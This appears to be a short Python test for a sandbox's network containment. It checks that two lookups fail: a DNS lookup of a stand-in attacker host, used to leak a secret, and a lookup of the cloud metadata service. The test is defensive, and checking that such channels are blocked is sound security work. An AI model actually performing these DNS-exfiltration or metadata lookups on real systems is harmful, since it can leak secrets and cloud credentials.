# attack: tells a secret by asking for a name
# expect: status=ok stdout=contained
# use: helpers
import socket
fails("a name", lambda: socket.getaddrinfo("secret.attacker.example", 80))
fails("another", lambda: socket.gethostbyname("metadata.google.internal"))
contained()
